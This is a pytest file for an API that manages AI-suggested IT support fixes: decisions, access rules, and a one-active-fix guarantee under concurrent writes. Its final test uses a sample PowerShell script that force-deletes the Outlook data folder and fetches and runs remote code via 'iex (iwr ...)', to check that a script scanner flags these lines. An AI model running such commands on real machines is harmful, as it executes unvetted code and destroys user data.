"""Suggested fixes: active and list, decisions and their 404/409/422/403 branches, and the
one-active-fix rule under concurrency (held by the database's partial unique index)."""

from __future__ import annotations

import threading
import time
import uuid
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import func, select, text
from sqlalchemy.exc import IntegrityError

from services.pilot.fixes import persist_fix
from shared.db import db
from shared.models import SuggestedFix
from tests.support.stub_anthropic import StubAnthropic


def _store_fix(session_id: str, account_id: uuid.UUID, title: str, **values: Any) -> str:
    with db.transaction() as session:
        fix = persist_fix(
            session,
            account_id=account_id,
            session_id=uuid.UUID(session_id),
            values={"title": title, **values},
        )
        return str(fix.id)


def _fixes(session_id: str) -> list[SuggestedFix]:
    with db.session() as session:
        return list(
            session.scalars(
                select(SuggestedFix)
                .where(SuggestedFix.session_id == uuid.UUID(session_id))
                .order_by(SuggestedFix.created_at)
            )
        )


def _decide(client: Any, actor: Any, session_id: str, fix_id: str, decision: Any) -> Any:
    return client.post(
        f"/api/v1/ai-sessions/{session_id}/suggested-fixes/{fix_id}/decision",
        json={"decision": decision},
        headers=actor.headers,
    )


def test_active_and_list(pilot_client: Any, engineer: Any, helpers: SimpleNamespace) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    base = f"{helpers.base}/{sid}/suggested-fixes"
    none = pilot_client.get(f"{base}/active", headers=engineer.headers)
    assert none.status_code == 404
    assert none.get_json()["code"] == 404
    assert pilot_client.get(base, headers=engineer.headers).get_json() == []

    first = _store_fix(sid, engineer.account_id, "Flush DNS", steps=["ipconfig /flushdns"])
    second = _store_fix(sid, engineer.account_id, "Renew DHCP lease", confidence=70)

    active = pilot_client.get(f"{base}/active", headers=engineer.headers)
    assert active.status_code == 200
    body = active.get_json()
    assert body["id"] == second and body["title"] == "Renew DHCP lease"
    assert body["confidence"] == 70 and body["active"] is True
    assert body["decision"] is None and body["decided_by"] is None

    listed = pilot_client.get(base, headers=engineer.headers).get_json()
    assert [f["id"] for f in listed] == [second, first]
    assert listed[1]["superseded_at"] is not None and listed[1]["active"] is False
    assert listed[1]["steps"] == ["ipconfig /flushdns"]
    assert listed[0]["superseded_at"] is None


def test_decisions_are_recorded_once_and_bump(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace
) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    fix_id = _store_fix(sid, engineer.account_id, "Re-register the spooler")

    response = _decide(pilot_client, engineer, sid, fix_id, "one_off")
    assert response.status_code == 200
    body = response.get_json()
    assert body["id"] == fix_id
    assert body["decision"] == "one_off"
    assert body["decided_by"] == str(engineer.id)
    assert body["decided_at"] is not None
    assert body["active"] is True and body["superseded_at"] is None
    assert body["state_version"] == 2

    again = _decide(pilot_client, engineer, sid, fix_id, "draft_template")
    assert again.status_code == 409
    assert "already" in again.get_json()["message"]
    assert helpers.session_version(sid) == 2
    assert _fixes(sid)[0].decision == "one_off"


@pytest.mark.parametrize("first", ["one_off", "draft_template", "build_template"])
def test_a_decided_fix_can_still_be_dismissed_and_keeps_its_history(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace, first: str
) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    fix_id = _store_fix(sid, engineer.account_id, "Re-register the spooler")
    assert _decide(pilot_client, engineer, sid, fix_id, first).status_code == 200

    dismissed = _decide(pilot_client, engineer, sid, fix_id, "dismissed")
    assert dismissed.status_code == 200
    body = dismissed.get_json()
    assert body["decision"] == "dismissed" and body["active"] is False
    assert body["superseded_at"] is not None and body["state_version"] == 3
    assert [h["decision"] for h in body["decision_history"]] == [first, "dismissed"]
    assert all(h["decided_by"] == str(engineer.id) for h in body["decision_history"])

    # Superseded now: re-deciding it is a 409 and writes nothing.
    for decision in ("one_off", "dismissed"):
        again = _decide(pilot_client, engineer, sid, fix_id, decision)
        assert again.status_code == 409
    assert helpers.session_version(sid) == 3
    assert _fixes(sid)[0].decision_history[-1]["decision"] == "dismissed"


@pytest.mark.parametrize("decision", ["draft_template", "build_template"])
def test_template_decisions_keep_the_fix_active(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace, decision: str
) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    fix_id = _store_fix(sid, engineer.account_id, "Script the fix")
    response = _decide(pilot_client, engineer, sid, fix_id, decision)
    assert response.status_code == 200
    assert response.get_json()["decision"] == decision
    active = pilot_client.get(
        f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
    )
    assert active.get_json()["id"] == fix_id


def test_dismissing_supersedes_and_superseded_fixes_cannot_be_decided(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace
) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    old = _store_fix(sid, engineer.account_id, "Old idea")
    current = _store_fix(sid, engineer.account_id, "Better idea")

    stale = _decide(pilot_client, engineer, sid, old, "one_off")
    assert stale.status_code == 409
    assert "superseded" in stale.get_json()["message"]

    dismissed = _decide(pilot_client, engineer, sid, current, "dismissed")
    assert dismissed.status_code == 200
    body = dismissed.get_json()
    assert body["decision"] == "dismissed" and body["superseded_at"] is not None
    assert body["active"] is False and body["state_version"] == 2
    active = pilot_client.get(
        f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
    )
    assert active.status_code == 404
    assert _decide(pilot_client, engineer, sid, current, "dismissed").status_code == 409
    assert helpers.session_version(sid) == 2


def test_decision_input_and_404s(
    pilot_client: Any, engineer: Any, outsider: Any, helpers: SimpleNamespace
) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    other = helpers.create_session(pilot_client, engineer, title="other")["id"]
    fix_id = _store_fix(sid, engineer.account_id, "Mine")
    foreign_sid = helpers.create_session(pilot_client, outsider)["id"]
    foreign_fix = _store_fix(foreign_sid, outsider.account_id, "Theirs")

    for bad in ("approve", "", None, 3):
        response = _decide(pilot_client, engineer, sid, fix_id, bad)
        assert response.status_code == 422, bad
        assert "decision" in response.get_json()["errors"]["json"]
    missing_field = pilot_client.post(
        f"{helpers.base}/{sid}/suggested-fixes/{fix_id}/decision", json={}, headers=engineer.headers
    )
    assert missing_field.status_code == 422

    assert _decide(pilot_client, engineer, sid, str(uuid.uuid4()), "one_off").status_code == 404
    assert _decide(pilot_client, engineer, other, fix_id, "one_off").status_code == 404
    assert _decide(pilot_client, engineer, sid, foreign_fix, "one_off").status_code == 404
    assert _decide(pilot_client, engineer, foreign_sid, foreign_fix, "one_off").status_code == 404
    for url in (
        f"{helpers.base}/{foreign_sid}/suggested-fixes",
        f"{helpers.base}/{foreign_sid}/suggested-fixes/active",
    ):
        assert pilot_client.get(url, headers=engineer.headers).status_code == 404

    assert helpers.session_version(sid) == 1
    assert helpers.session_version(foreign_sid) == 1
    assert all(f.decision is None for f in _fixes(sid) + _fixes(foreign_sid))


def test_viewers_and_resolved_sessions_cannot_decide(
    pilot_client: Any, make_user: Callable[..., Any], helpers: SimpleNamespace
) -> None:
    engineer = make_user("engineer")
    viewer = make_user("viewer", account_id=engineer.account_id)
    sid = helpers.create_session(pilot_client, engineer)["id"]
    fix_id = _store_fix(sid, engineer.account_id, "Fix")
    base = f"{helpers.base}/{sid}/suggested-fixes"

    assert pilot_client.get(f"{base}/active", headers=viewer.headers).status_code == 200
    assert pilot_client.get(base, headers=viewer.headers).status_code == 200
    assert _decide(pilot_client, viewer, sid, fix_id, "one_off").status_code == 403

    pilot_client.post(
        f"{helpers.base}/{sid}/resolve", json={"force": True}, headers=engineer.headers
    )
    resolved = _decide(pilot_client, engineer, sid, fix_id, "one_off")
    assert resolved.status_code == 409
    assert helpers.session_version(sid) == 2
    assert _fixes(sid)[0].decision is None


def test_the_database_allows_one_active_fix_per_session(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace
) -> None:
    sid = uuid.UUID(helpers.create_session(pilot_client, engineer)["id"])
    _store_fix(str(sid), engineer.account_id, "First")
    with pytest.raises(IntegrityError, match="uq_suggested_fixes_one_active"):
        with db.transaction() as session:
            session.add(SuggestedFix(session_id=sid, account_id=engineer.account_id, title="Rogue"))
            session.flush()


def test_two_fix_proposals_at_once_leave_exactly_one_active(
    llm_app: Flask, stub: StubAnthropic, engineer: Any, helpers: SimpleNamespace
) -> None:
    sid = helpers.create_session(llm_app.test_client(), engineer)["id"]
    stub.queue_responses(helpers.fix_block("Fix A"), helpers.fix_block("Fix B"))
    start = threading.Barrier(2)
    results: list[dict[str, Any]] = []
    errors: list[BaseException] = []

    def turn(n: int) -> None:
        try:
            client = llm_app.test_client()
            start.wait(10)
            response = client.post(
                f"{helpers.base}/{sid}/messages",
                json={"content": f"proposal please {n}"},
                headers=engineer.headers,
            )
            assert response.status_code == 201, response.get_json()
            results.append(response.get_json())
        except BaseException as exc:  # noqa: BLE001 - re-raised in the test thread
            errors.append(exc)

    threads = [threading.Thread(target=turn, args=(n,)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert not errors, errors
    assert len(results) == 2

    fixes = _fixes(sid)
    assert sorted(f.title for f in fixes) == ["Fix A", "Fix B"]
    active = [f for f in fixes if f.superseded_at is None]
    assert len(active) == 1
    # The turn stored last (the higher version) holds the active fix.
    last = max(results, key=lambda body: body["state_version"])
    assert str(active[0].id) == last["suggested_fix"]["id"]
    assert helpers.session_version(sid) == 5


def _lock_waiters() -> int:
    with db.engine.connect() as conn:
        return int(
            conn.execute(
                text(
                    "SELECT count(*) FROM pg_stat_activity "
                    "WHERE datname = current_database() AND wait_event_type = 'Lock'"
                )
            ).scalar_one()
        )


def test_persisting_a_fix_retries_after_losing_the_race_on_the_unique_index(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace
) -> None:
    """Two writers that did not serialise on the session row: the second one's INSERT waits
    on the first one's uncommitted row, fails on the index when it commits, and retries."""
    sid = helpers.create_session(pilot_client, engineer)["id"]
    session_id = uuid.UUID(sid)
    first = db.session()
    first.begin()
    persist_fix(
        first, account_id=engineer.account_id, session_id=session_id, values={"title": "First"}
    )
    outcome: dict[str, Any] = {}

    def second() -> None:
        try:
            with db.transaction() as session:
                fix = persist_fix(
                    session,
                    account_id=engineer.account_id,
                    session_id=session_id,
                    values={"title": "Second"},
                )
                outcome["id"] = fix.id
        except BaseException as exc:  # noqa: BLE001 - asserted below
            outcome["error"] = exc

    thread = threading.Thread(target=second)
    thread.start()
    try:
        deadline = time.monotonic() + 10
        while _lock_waiters() < 1:
            assert time.monotonic() < deadline, "the second writer never waited on the index"
            time.sleep(0.01)
    finally:
        first.commit()
        first.close()
    thread.join(10)
    assert "error" not in outcome, outcome.get("error")

    fixes = _fixes(sid)
    assert [f.title for f in fixes] == ["First", "Second"]
    assert fixes[0].superseded_at is not None
    assert fixes[1].superseded_at is None and fixes[1].id == outcome["id"]
    with db.session() as session:
        active = session.execute(
            select(func.count())
            .select_from(SuggestedFix)
            .where(SuggestedFix.session_id == session_id, SuggestedFix.superseded_at.is_(None))
        ).scalar_one()
    assert active == 1


def test_an_ai_script_is_checked_and_marked_as_ai_written(
    pilot_client: Any, engineer: Any, helpers: SimpleNamespace
) -> None:
    sid = helpers.create_session(pilot_client, engineer)["id"]
    script = (
        "Write-Output 'Resetting the profile'\n"
        'Remove-Item -Path "$env:LOCALAPPDATA\\Microsoft\\Outlook" -Recurse -Force\n'
        "iex (iwr https://example.com/fix.ps1)\n"
    )
    _store_fix(sid, engineer.account_id, "Reset Outlook", script=script)
    card = pilot_client.get(
        f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
    ).get_json()
    assert card["script_origin"] == "ai"
    assert [(f["rule"], f["severity"], f["line"]) for f in card["script_findings"]] == [
        ("RF1001", "warning", 2),
        ("RF2002", "error", 3),
    ]
    assert all(f["why"] for f in card["script_findings"])
    listed = pilot_client.get(f"{helpers.base}/{sid}/suggested-fixes", headers=engineer.headers)
    assert listed.get_json()[0]["script_findings"] == card["script_findings"]

    _store_fix(sid, engineer.account_id, "Restart the client", steps=["Restart Outlook"])
    plain = pilot_client.get(
        f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
    ).get_json()
    assert plain["script_origin"] is None and plain["script_findings"] == []
